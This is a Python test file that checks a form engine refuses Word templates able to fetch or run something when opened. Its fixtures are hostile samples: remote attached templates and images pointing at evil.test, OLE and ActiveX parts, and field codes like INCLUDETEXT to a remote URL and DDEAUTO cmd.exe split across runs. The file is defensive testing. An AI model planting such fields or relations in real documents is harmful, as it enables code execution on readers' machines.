"""Templates that would run or fetch something on the machine of whoever opens them are refused (T31)."""

from __future__ import annotations

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from formengine.documents import fill, require_template
from formengine.errors import DocumentRefused
from tests.documents.conftest import changed, saved, word

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'.encode()
    name = "word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels"

    def add(old: bytes) -> bytes:
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        return (old or empty).replace(b"</Relationships>", relation + b"</Relationships>")

    return changed(word("x"), {name: add})


@pytest.mark.parametrize(
    ("template", "told"),
    [
        (with_relation("attachedTemplate", "https://evil.test/t.dotm"), "attached to another template"),
        (with_relation("image", "https://evil.test/pixel.png"), "links to https://evil.test/pixel.png"),
        (with_relation("oleObject", "file:///c:/x.xls"), "embedded object"),
        (with_relation("aFChunk", "/word/other.html", "Internal"), "merge into it"),
        (with_relation("subDocument", "part.docx"), "master document"),
        (with_relation("frame", "https://evil.test/"), "links to https://evil.test/"),
        (changed(word("x"), {"word/embeddings/oleObject1.bin": b"x"}), "embedded object"),
        (changed(word("x"), {"word/activeX/activeX1.xml": b"<a/>"}), "control"),
    ],
)
def test_what_runs_or_fetches_is_refused(template: bytes, told: str) -> None:
    """T31: with what it is and what to do; at the check and whenever a template is filled."""
    for use in (require_template, lambda content: fill(content, {})):
        with pytest.raises(DocumentRefused, match=told):
            use(template)


@pytest.mark.parametrize("field", ['INCLUDETEXT "http://evil.test/x"', "DDEAUTO c:\\\\cmd.exe", "includepicture x"])
def test_fields_that_fetch_or_run_are_refused(field: str) -> None:
    """T31: also where Word split the field over runs."""
    document = Document()
    paragraph = document.add_paragraph()
    for half in (field[:4], field[4:]):
        run = f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"></w:instrText></w:r>'
        element = parse_xml(run)
        element[0].text = half
        paragraph._p.append(element)
    with pytest.raises(DocumentRefused, match="has a field"):
        require_template(saved(document))


def test_links_that_a_reader_clicks_and_page_numbers_are_allowed() -> None:
    """T31: nothing is fetched before somebody clicks."""
    require_template(with_relation("hyperlink", "https://example.com/"))
    document = Document()
    xml = f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    document.add_paragraph()._p.append(parse_xml(xml))
    require_template(saved(document))
